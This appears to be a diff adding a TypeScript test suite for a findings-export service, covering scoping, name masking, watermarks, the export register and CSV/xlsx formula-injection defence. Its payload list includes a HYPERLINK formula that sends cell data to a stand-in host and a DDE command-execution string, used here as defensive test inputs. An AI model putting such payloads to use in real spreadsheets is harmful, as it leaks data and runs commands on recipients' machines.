@@ -1,0 +1,148 @@
+/**
+ * Exports of the findings list through the service contract: inside the scope, masked by role, watermarked, registered
+ * row by row and audited; no cell of a payload corpus becomes a formula in CSV or xlsx; too large an export is refused
+ * and leaves nothing behind.
+ */
+import { readFileSync, readdirSync, existsSync } from 'node:fs';
+import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
+import ExcelJS from 'exceljs';
+import yauzl from 'yauzl';
+import type { Database } from 'better-sqlite3-multiple-ciphers';
+import { afterEach, describe, expect, it } from 'vitest';
+import { makeBench, withStaff, type TestBench } from '../helpers/workstation.js';
+
+const STREET = '320111004';
+const FULL_ID = /(?<![0-9])[0-9]{17}[0-9X](?![0-9])/;
+const sort = { column: 'priority' as const, direction: 'desc' as const };
+const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0", '@SUM(1)', '+1+1', '-2+3', '\t=1+1', '\r=1+1', '\n=1+1', '含"引号"的名字'];
+
+let b: TestBench;
+afterEach(() => b.cleanup());
+
+async function waitForRun(client: string) {
+  for (let i = 0; i < 400; i++) {
+    const s = await b.ok(client, 'checks.status');
+    if (!s.running && s.lastRun) return;
+    await new Promise((r) => setTimeout(r, 25));
+  }
+  throw new Error('the run did not finish');
+}
+
+async function setUp(maxExportRows?: number) {
+  b = makeBench(maxExportRows ? { maxExportRows } : {});
+  const staff = await withStaff(b, [STREET]);
+  await b.ok('auditor-client', 'checks.run', {});
+  await waitForRun('auditor-client');
+  return staff;
+}
+
+function sheetXml(file: string): Promise<string> {
+  return new Promise((resolve, reject) => {
+    yauzl.open(file, { lazyEntries: true }, (err, zip) => {
+      if (err || !zip) return reject(err);
+      let xml = '';
+      zip.on('entry', (entry: yauzl.Entry) => {
+        if (!/^xl\/worksheets\/sheet\d+\.xml$/.test(entry.fileName)) return zip.readEntry();
+        zip.openReadStream(entry, (e, stream) => {
+          if (e || !stream) return reject(e);
+          stream.on('data', (c: Buffer) => (xml += c.toString('utf8')));
+          stream.on('end', () => zip.readEntry());
+        });
+      });
+      zip.on('end', () => resolve(xml));
+      zip.readEntry();
+    });
+  });
+}
+
+describe('exports', () => {
+  it('writes the filtered findings inside the scope, masked, watermarked, registered and audited', async () => {
+    await setUp();
+    const inbox = await b.ok('auditor-client', 'inbox.page', { filter: {}, sort, offset: 0, limit: 500 });
+    const csv = await b.ok('auditor-client', 'export.findings', { format: 'csv', purpose: '季度核查', filter: {}, sort });
+    expect(csv.rows).toBe(inbox.total);
+    const text = readFileSync(csv.file, 'utf8');
+    expect(text).not.toMatch(FULL_ID);
+    const records = parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
+    expect(records[0]![0]).toContain(csv.exportId);
+    expect(records[0]![0]).toContain('季度核查');
+    const rows = records.slice(2);
+    expect(rows).toHaveLength(inbox.total);
+    expect(rows.every((r) => r[6]!.startsWith(STREET))).toBe(true);
+    expect(rows.map((r) => r[0]).sort()).toEqual(inbox.rows.map((r) => r.fingerprint).sort());
+
+    const xlsx = await b.ok('auditor-client', 'export.findings', { format: 'xlsx', purpose: '季度核查', recipient: '区审计局', filter: { ruleIds: ['R-DEATH'] }, sort });
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.readFile(xlsx.file);
+    const sheet = workbook.getWorksheet('导出')!;
+    expect(String(sheet.getCell('A1').value)).toContain(xlsx.exportId);
+    expect(sheet.headerFooter.oddHeader).toContain(xlsx.exportId);
+    expect(workbook.getWorksheet('_export')!.state).toBe('veryHidden');
+    expect(sheet.rowCount - 2).toBe(xlsx.rows);
+    expect(typeof sheet.getCell('I3').value).toBe('number');
+    expect(await sheetXml(xlsx.file)).not.toMatch(FULL_ID);
+
+    const register = await b.ok('auditor-client', 'export.mine');
+    expect(register.map((e) => e.exportId)).toEqual([xlsx.exportId, csv.exportId]);
+    expect(register[0]).toMatchObject({ recipient: '区审计局', rowCount: xlsx.rows, fileSha256: xlsx.sha256 });
+    const history = (await b.ok('auditor-client', 'audit.myHistory', { limit: 10 })).entries;
+    expect(history.find((e) => e.action === 'export.registered' && e.target === xlsx.exportId)).toBeTruthy();
+    expect(history.find((e) => e.action === 'export.findings' && e.outcome === 'ok')).toBeTruthy();
+  });
+
+  it('masks names for finance staff, and a wider division than the scope is refused', async () => {
+    await setUp();
+    const out = await b.ok('finance-client', 'export.findings', { format: 'csv', purpose: '资金复核', filter: {}, sort });
+    const rows = (parse(readFileSync(out.file, 'utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).slice(2);
+    const names = rows.map((r) => r[4]!).filter(Boolean);
+    expect(names.length).toBeGreaterThan(0);
+    expect(names.every((n) => /^.\*+$/u.test(n))).toBe(true);
+    expect(await b.call('finance-client', 'export.findings', { format: 'csv', purpose: '资金复核', filter: {}, divisionPrefix: '320111', sort })).toMatchObject({
+      ok: false,
+      error: { code: 'OUT_OF_SCOPE' },
+    });
+  });
+
+  it('never writes a formula: a payload corpus stays literal text in CSV and xlsx', async () => {
+    const staff = await setUp();
+    const teamDb = (b.ws.internals.team.forUser(staff.auditor.id) as unknown as { db: Database }).db;
+    const ids = teamDb.prepare('SELECT fingerprint FROM finding WHERE division_code LIKE ? LIMIT ?').pluck().all(`${STREET}%`, PAYLOADS.length) as string[];
+    expect(ids).toHaveLength(PAYLOADS.length);
+    ids.forEach((fp, i) => teamDb.prepare('UPDATE finding SET subject_name = ? WHERE fingerprint = ?').run(PAYLOADS[i], fp));
+
+    const xlsx = await b.ok('auditor-client', 'export.findings', { format: 'xlsx', purpose: '注入测试', filter: {}, sort });
+    const xml = await sheetXml(xlsx.file);
+    expect(xml).not.toMatch(/<f[ >]/);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.readFile(xlsx.file);
+    const names: string[] = [];
+    workbook.getWorksheet('导出')!.eachRow((row, n) => {
+      if (n > 2) names.push(String(row.getCell(5).value ?? ''));
+    });
+    // XML turns a carriage return into a line feed when read back; compare with that in mind.
+    const lf = (v: string) => v.replace(/\r\n?/g, '\n');
+    for (const payload of PAYLOADS) {
+      const cell = names.find((v) => lf(v).endsWith(lf(payload)));
+      expect(cell, payload).toBeDefined();
+      expect(/^[=+\-@\t\r\n]/.test(cell!), payload).toBe(false);
+    }
+
+    const csv = await b.ok('auditor-client', 'export.findings', { format: 'csv', purpose: '注入测试', filter: {}, sort });
+    const rows = (parse(readFileSync(csv.file, 'utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).slice(2);
+    for (const payload of PAYLOADS) {
+      const cell = rows.map((r) => r[4]!).find((v) => v.endsWith(payload) || v === payload);
+      expect(cell, payload).toBeDefined();
+      expect(/^[=+\-@\t\r\n]/.test(cell!), payload).toBe(false);
+    }
+  });
+
+  it('refuses an export above the size limit, leaving no file and no register entry', async () => {
+    await setUp(3);
+    const r = await b.call('auditor-client', 'export.findings', { format: 'xlsx', purpose: '全部导出', filter: {}, sort });
+    expect(r).toMatchObject({ ok: false, error: { code: 'EXPORT_TOO_LARGE' } });
+    const dir = join(b.dir, 'exports', 'auditor1');
+    expect(existsSync(dir) ? readdirSync(dir) : []).toEqual([]);
+    expect(await b.ok('auditor-client', 'export.mine')).toEqual([]);
+  });
+});
